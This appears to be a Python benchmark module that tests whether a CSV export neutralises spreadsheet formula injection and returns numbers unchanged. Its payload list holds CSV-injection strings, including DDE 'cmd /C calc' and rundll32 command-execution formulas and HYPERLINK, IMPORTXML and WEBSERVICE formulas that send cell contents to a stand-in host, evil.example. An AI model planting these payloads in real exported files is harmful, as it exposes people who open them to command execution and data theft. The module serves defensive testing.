"""Texts that a spreadsheet would run, written into CSV files, and numbers that must come back as they were."""

from __future__ import annotations

import csv
import random
import unicodedata
from decimal import Decimal
from pathlib import Path

import pyarrow as pa

from benchmarks.trust.figures import Figure, Tally
from predseg.formats import write_file

TRIED = "cells that spreadsheets run, behind spaces, controls, quotes and in full width; numbers beside them"
PROMISED = "0 run, numbers unchanged"
FULL, SMALL = 100_000, 2_000
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1",
    "+49 30 123456",
    "=",
    "-",
    "@handle",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
)  # fmt: skip
BEFORE = (
    "",
    "",
    "",
    " ",
    "  ",
    "\u00a0",
    "\u2003",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\x00",
    "\x0b",
    "\x1f",
    "\u2028",
    "\t",
    "\r",
    "\n",
    "\u202e",
    "\xad",
)
BEHIND = ("", "", "\n=2+2", '","=2+2', ";=2+2", '"=2', ",=3", "\r\n=4")
HARMLESS = ("ann", "c0001", "Café", "a=b", "x+y", "a@example.com", "'=1+1", "1-2", "")


def measure(cases: int, folder: Path, seed: int) -> Figure:
    tally, r = Tally(), random.Random(seed)
    texts = [
        r.choice(BEFORE) * r.randrange(3) + r.choice(PAYLOADS) + r.choice(BEHIND) if r.random() < 0.9 else r.choice(HARMLESS) for _ in range(cases)
    ]
    exact = [Decimal(r.randrange(-(10**13), 10**13)).scaleb(-4) for _ in texts]
    floats = [r.choice([r.uniform(-1e9, 1e9), -r.random(), r.random() * 1e-12, -1e300]) for _ in texts]
    whole = [r.randrange(-(2**62), 2**62) for _ in texts]
    columns = {"=cmd()": texts, "exact": pa.array(exact, pa.decimal128(18, 4)), "float": floats, "whole": whole}
    columns["level"] = pa.array(texts).dictionary_encode()
    columns["many"] = pa.array([[t] for t in texts])
    with write_file(folder / "out.csv", pa.table(columns)).open(newline="", encoding="utf-8") as file:
        head, *rows = list(csv.reader(file))
    tally.demand(not runs(head[0]), "the name of a column is run")
    tally.demand(len(rows) == cases, f"{len(rows):,} rows of {cases:,}: a cell broke out of its row")
    for text, row, number, near, integer in zip(texts, rows, exact, floats, whole, strict=False):
        judged(tally, text, row)
        tally.counts["numbers"] += (same := Decimal(row[1]) == number and float(row[2]) == near and int(row[3]) == integer)
        tally.demand(same, f"{number} {near} {integer} came back as {row[1:4]}")
    return tally.figure(f"{tally.counts['run']} run, {tally.counts['inert']:,} made inert, {3 * tally.counts['numbers']:,} numbers unchanged")


def judged(tally: Tally, text: str, row: list[str]) -> None:
    tally.cases += 1
    for cell in (row[0], row[4], row[5]):
        if runs(cell):
            tally.counts["run"] += 1
            tally.fault(f"{text!r} is run, as {cell!r}")
    tally.counts["inert"] += runs(text)
    lossless = row[0] == (f"'{text}" if runs(text) else text) and row[4] == row[0]
    tally.demand(lossless, f"{text!r} came back as {row[0]!r} and {row[4]!r}")


def runs(cell: str) -> bool:
    """Whether some spreadsheet may take a cell for a formula: the rule of OWASP, behind anything that is not seen, in full width too."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    seen = cell.lstrip("".join({c for c in cell if unicodedata.category(c)[0] == "Z" or unicodedata.category(c) in ("Cc", "Cf")}))
    return unicodedata.normalize("NFKC", seen[:1]) in ("=", "+", "-", "@") and seen[:1] != ""
